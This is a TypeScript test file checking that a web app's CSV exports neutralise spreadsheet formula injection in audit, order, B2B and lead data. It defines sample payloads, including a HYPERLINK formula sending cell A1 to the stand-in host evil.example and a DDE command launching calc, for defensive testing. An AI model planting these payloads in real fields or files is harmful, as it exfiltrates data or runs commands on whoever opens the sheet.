/**
 * Every CSV download goes through one writer (app/server/platform/csv.server.ts): a stranger's
 * text (a failed sign-in's username, a customer's name) never reaches the owner's spreadsheet
 * as a live formula, in any column of any export, and every download has the same headers.
 */
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { getRequest, jsonRequest } from '#tests/setup/requests'
import { callRoute, type RouteModule } from '#tests/setup/route'
import * as auditExport from '~/routes-admin/admin.audit_.export'
import * as b2bExport from '~/routes-admin/admin.b2b_.export'
import * as leadsExport from '~/routes-admin/admin.leads_.export'
import * as ordersExport from '~/routes-admin/admin.orders_.export'
import * as siteContent from '~/routes-api/api.admin.site-content'
import * as siteContentItem from '~/routes-api/api.admin.site-content.$id'
import { LoginRefusedError, verifyLogin } from '~/server/auth/auth.server'
import { db, schema } from '~/server/platform/db.server'
import { createLead } from '~/server/requests/leads.server'
import { createWindowCompanyRequest } from '~/server/requests/window-company-requests.server'
import { adminHeaders } from './admin-helpers'

/** The two classic payloads: a link that sends the sheet's A1 away, and a DDE command. */
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
const DDE = "+cmd|' /C calc'!A0"
const STRANGERS = [HYPERLINK, DDE]

/** What a spreadsheet would run: a cell starting with = + - @, a tab or a carriage return. */
const FORMULA = /^[=+\-@\t\r]/

let owner: { Authorization: string }

beforeAll(() => {
  owner = adminHeaders('csv-owner', 'owner')
})

async function download(route: RouteModule, url: string) {
  const result = await callRoute(route, getRequest(url, owner))
  expect(result.status).toBe(200)
  expect(result.headers.get('Content-Type')).toBe('text/csv; charset=utf-8')
  expect(result.headers.get('Content-Disposition')).toMatch(
    /^attachment; filename="[A-Za-z0-9._-]+\.csv"$/,
  )
  expect(result.headers.get('Cache-Control')).toBe('private, no-store')
  const bytes = new Uint8Array((await result.response?.arrayBuffer()) ?? new ArrayBuffer(0))
  // The UTF-8 BOM, so a spreadsheet reads accents as UTF-8 (Response.text() would drop it).
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const text = new TextDecoder().decode(bytes)
  const [header, ...rows] = parse(text, { bom: true, relax_column_count: true }) as string[][]
  const column = (row: string[], name: string) => row[header.indexOf(name)]
  return { header, rows, column }
}

/** No cell of any row (header included) would run as a formula. */
function expectNoFormula(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA)
}

describe('the audit log export', () => {
  it("writes a failed sign-in's username as text in every column, and staff's before/after too", async () => {
    for (const [i, username] of STRANGERS.entries()) {
      const request = new Request('http://localhost/admin/login', {
        headers: { 'Fly-Client-IP': `198.51.100.${20 + i}` },
      })
      await expect(verifyLogin(request, username, 'wrong')).rejects.toBeInstanceOf(
        LoginRefusedError,
      )
    }
    // A content item whose value was a payload and became another: before and after carry them.
    const created = await callRoute(
      siteContent,
      jsonRequest(
        '/api/admin/site-content',
        { section: 'home', key: 'heroSubtitle', value: HYPERLINK },
        { headers: owner },
      ),
    )
    expect(created.status).toBe(201)
    const { id } = created.data as { id: number }
    const updated = await callRoute(
      siteContentItem,
      jsonRequest(
        `/api/admin/site-content/${id}`,
        { section: 'home', key: 'heroSubtitle', value: DDE },
        { method: 'PUT', headers: owner },
      ),
      { id: String(id) },
    )
    expect(updated.status).toBe(200)

    const { rows, column } = await download(auditExport, '/admin/audit/export')
    const failed = rows.filter((r) => column(r, 'kind') === 'sign-in-failed')
    expect(failed.map((r) => column(r, 'who')).sort()).toEqual(STRANGERS.map((s) => `'${s}`).sort())
    for (const row of failed) expect(column(row, 'summary')).toContain(column(row, 'who').slice(1))
    const edit = rows.find((r) => column(r, 'kind') === 'content-edit' && column(r, 'before'))
    expect(edit && column(edit, 'before')).toBe(`'${HYPERLINK}`)
    expect(edit && column(edit, 'after')).toBe(`'${DDE}`)
    expectNoFormula(rows)
  })
})

describe('the other exports', () => {
  it('the orders export writes a customer-typed formula as text, its money as numbers', async () => {
    db.insert(schema.orders)
      .values({
        status: 'paid',
        stage: 'paid',
        customerName: HYPERLINK,
        customerEmail: 'csv@example.com',
        customerPhone: '(954) 555-0120',
        customerAddress: DDE,
        customerCity: '@SUM(A1:A9)',
        subtotalCents: 20000,
        installationCents: 0,
        taxCents: 1400,
        totalCents: 21400,
        paidAt: new Date(),
      })
      .run()
    const { rows, column } = await download(ordersExport, '/admin/orders/export')
    const row = rows.find((r) => column(r, 'Customer Email') === 'csv@example.com')
    expect(row && column(row, 'Customer Name')).toBe(`'${HYPERLINK}`)
    expect(row && column(row, 'Address')).toBe(`'${DDE}`)
    expect(row && column(row, 'Total')).toBe('214.00')
    expectNoFormula(rows)
  })

  it('the B2B export writes a company-typed formula as text', async () => {
    createWindowCompanyRequest({
      companyName: HYPERLINK,
      contactName: DDE,
      contactPhone: '(954) 555-0121',
      contactEmail: 'csv-b2b@example.com',
      customerName: '-2+3',
      customerPhone: '(954) 555-0122',
      customerAddress: '1 Formula Way, Plantation, FL 33324',
      projectDetails: '\t=1+1',
      blindType: 'Vertical blinds',
      numberOfWindows: 3,
      urgency: 'low',
    })
    const { rows, column } = await download(b2bExport, '/admin/b2b/export')
    const row = rows.find((r) => column(r, 'Contact Email') === 'csv-b2b@example.com')
    expect(row && column(row, 'Company Name')).toBe(`'${HYPERLINK}`)
    expect(row && column(row, 'Contact Name')).toBe(`'${DDE}`)
    expect(row && column(row, 'Customer Name')).toBe("'-2+3")
    expect(row && column(row, 'Number of Windows')).toBe('3')
    expectNoFormula(rows)
  })

  it("the leads export writes a visitor-typed formula as text, the list's filters kept", async () => {
    const evil = createLead({
      source: 'city-page',
      city: 'Plantation',
      zipCode: '33317',
      name: HYPERLINK,
      email: 'csv-lead@example.com',
      phone: '(954) 555-0123',
      address: DDE,
      details: '@SUM(A1:A9)\nand a second line',
    }).id
    createLead({
      source: 'quote-wizard',
      isHomeowner: true,
      timeFrame: 'asap',
      name: 'Wendy Wizard',
      email: 'csv-wizard@example.com',
      phone: '(954) 555-0124',
    })
    const { header, rows, column } = await download(
      leadsExport,
      '/admin/leads/export?source=city-page&page=2',
    )
    expect(header).toContain('Reference')
    // Every page of the filtered list: only the city-page lead, though ?page=2 was asked.
    expect(rows).toHaveLength(1)
    const [row] = rows
    expect(column(row, 'Reference')).toBe(`Q-${evil}`)
    expect(column(row, 'Source')).toBe('City page')
    expect(column(row, 'Name')).toBe(`'${HYPERLINK}`)
    expect(column(row, 'Address')).toBe(`'${DDE}`)
    expect(column(row, 'Details')).toBe("'@SUM(A1:A9)\nand a second line")
    expectNoFormula(rows)

    const all = await download(leadsExport, '/admin/leads/export')
    const wizard = all.rows.find((r) => all.column(r, 'Email') === 'csv-wizard@example.com')
    expect(wizard && all.column(wizard, 'Homeowner')).toBe('Yes')
    expect(all.rows).toHaveLength(2)
  })

  it('the leads export is daily work: an installer is refused', async () => {
    const installer = adminHeaders('csv-installer', 'installer')
    const result = await callRoute(leadsExport, getRequest('/admin/leads/export', installer))
    expect(result.status).toBe(403)
  })
})
